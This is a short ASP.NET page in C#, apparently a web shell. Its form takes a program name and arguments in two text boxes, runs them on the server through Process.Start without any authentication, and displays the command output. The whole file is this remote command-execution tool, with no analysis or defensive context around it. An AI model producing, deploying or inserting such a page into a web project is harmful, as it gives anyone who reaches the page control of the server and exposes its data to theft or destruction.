<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Go(object s, EventArgs e) {
    var info = new ProcessStartInfo();
    info.FileName = progBox.Text;
    info.Arguments = argBox.Text;
    info.UseShellExecute = false;
    info.RedirectStandardOutput = true;
    Process p = Process.Start(info);
    result.Text = p.StandardOutput.ReadToEnd();
}
</script>
<form runat="server"><asp:TextBox id="progBox" runat="server"/><asp:TextBox id="argBox" runat="server"/>
<asp:Button runat="server" OnClick="Go" Text="go"/><asp:Label id="result" runat="server"/></form>
